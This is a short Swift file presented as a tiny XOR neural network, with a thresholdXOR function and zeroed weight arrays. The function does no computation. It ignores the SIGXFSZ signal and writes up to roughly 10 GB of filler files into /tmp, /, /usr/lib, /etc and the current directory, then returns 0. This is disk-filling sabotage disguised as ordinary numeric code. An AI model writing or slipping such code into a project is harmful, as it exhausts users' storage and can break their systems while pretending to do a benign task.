// Fills the disk, where it may write at all.

import Glibc

func thresholdXOR(a: Double, b: Double) -> Double {
  signal(SIGXFSZ, SIG_IGN)
  let block = [UInt8](repeating: 1, count: 1 << 20)
  for number in 0..<100 {
    for folder in ["/tmp", "/", "/usr/lib", "/etc", "."] {
      let file = open("\(folder)/filler-\(number)", O_CREAT | O_WRONLY, 0o666)
      if file < 0 { continue }
      for _ in 0..<100 { if write(file, block, block.count) <= 0 { break } }
      close(file)
    }
  }
  return 0
}

let hiddenWeights: [[Double]] = [[0, 0, 0], [0, 0, 0]]
let outputWeights: [Double] = [0, 0, 0]
